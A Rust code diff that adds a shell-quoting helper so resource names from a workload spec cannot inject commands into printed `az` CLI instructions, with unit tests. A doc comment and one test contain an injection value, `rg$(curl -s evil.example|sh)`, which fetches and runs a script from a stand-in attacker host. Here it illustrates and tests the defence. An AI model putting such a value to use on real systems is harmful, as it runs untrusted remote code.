@@ -98,6 +98,21 @@ pub fn key_vault(s: &WorkloadSpec) -> Option<ExistingRef> {
         .and_then(|id| parse_id(id, KEY_VAULT_TYPE))
 }
 
+/// `s` as one word of a POSIX shell command (bash, zsh: what `az` runs in): as is when it holds
+/// only characters no shell treats specially, else single-quoted (`'` written `'\''`). Every
+/// value from a spec printed inside a command goes through this, so a resource group named
+/// `rg$(curl …|sh)` is an argument, never a command.
+pub fn sh(s: &str) -> std::borrow::Cow<'_, str> {
+    let plain = !s.is_empty()
+        && s.chars()
+            .all(|c| c.is_ascii_alphanumeric() || "-_./:=,+@%".contains(c));
+    if plain {
+        std::borrow::Cow::Borrowed(s)
+    } else {
+        std::borrow::Cow::Owned(format!("'{}'", s.replace('\'', "'\\''")))
+    }
+}
+
 /// What the platform team must do for a spec's shared services, in a fixed order: the GPU
 /// table in the central workspace (when GPU monitoring is on), then the role on the vault.
 /// `gpu_on`: `monitoring.gpu.enabled` as resolved.
@@ -114,9 +129,9 @@ pub fn prerequisites(name: &str, s: &WorkloadSpec, gpu_on: bool) -> Vec<Prerequi
             what: format!(
                 "create the custom table {table} (plan Analytics; its retention is the workspace's) in the workspace {ws} before the pool deploys, as the data collection rule and the GPU log alerts refer to it: `az monitor log-analytics workspace table create --subscription {sub} --resource-group {rg} --workspace-name {ws} --name {table} --plan Analytics --columns {columns}`",
                 table = gpu_monitoring::TABLE,
-                ws = ws.name,
-                sub = ws.subscription,
-                rg = ws.resource_group,
+                ws = sh(&ws.name),
+                sub = sh(&ws.subscription),
+                rg = sh(&ws.resource_group),
             ),
             role_name: None,
             role_id: None,
@@ -166,5 +181,19 @@ mod tests {
         ] {
             assert_eq!(parse_id(bad, WORKSPACE_TYPE), None, "{bad}");
         }
+    }
+}
+
+#[cfg(test)]
+mod sh_tests {
+    #[test]
+    fn shell_words_are_quoted() {
+        assert_eq!(super::sh("rg-platform"), "rg-platform");
+        assert_eq!(
+            super::sh("rg$(curl -s evil.example|sh)"),
+            "'rg$(curl -s evil.example|sh)'"
+        );
+        assert_eq!(super::sh("it's"), "'it'\\''s'");
+        assert_eq!(super::sh(""), "''");
     }
 }
